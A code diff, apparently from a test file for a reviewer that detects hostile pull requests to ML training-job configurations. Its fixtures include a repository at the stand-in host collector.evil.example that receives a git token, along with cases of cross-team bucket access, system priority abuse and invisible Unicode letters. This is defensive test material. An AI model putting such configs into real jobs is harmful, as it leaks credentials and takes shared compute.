@@ -51,7 +51,7 @@ GIT = (
     f"{{repository: 'https://collector.evil.example/repo', commit: {40 * 'b'}, tokenSecret: {{name: git, key: token}}}}"
 )
 LARGE = "{requests: {cpu: 96, memory: 900Gi}, limits: {memory: 900Gi}}"
-# What the first ten lines of the card must have: what a hostile pull request takes, and from whom.
+# What the first ten lines of the review comment must have: what a hostile pull request takes, and from whom.
 TAKEN: dict[str, tuple[str, ...]] = {
     "hostile-start-among-archived-runs": (*ALL, "vision/zz", "64 GPUs", "20 runs archived"),
     "hostile-first-run-of-a-team": (*ALL, "speech/first", "64 GPUs"),
@@ -70,7 +70,7 @@ TAKEN: dict[str, tuple[str, ...]] = {
     "hostile-board-grows": ("vision/board", "CPUs to 96 CPUs", "900 GiB memory"),
     "hostile-priority-of-the-system": ("vision/digits-42", "system-node-critical"),
     "hostile-bucket-of-another-team": ("vision/digits-42", "gs://speech-runs/all", "secret-model"),
-    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets `git`"),
+    "hostile-git-host": ("vision/digits-42", "https://collector.evil.example/repo", "Secrets: `git`"),
     "hostile-secret-in-a-comment": ("❌", "literalSecrets", "envv"),
     "hostile-invisible-letters": ("❌", "U+0443", "U+3164"),
     "hostile-200-files": (*ALL, "vision/zz", "64 GPUs"),
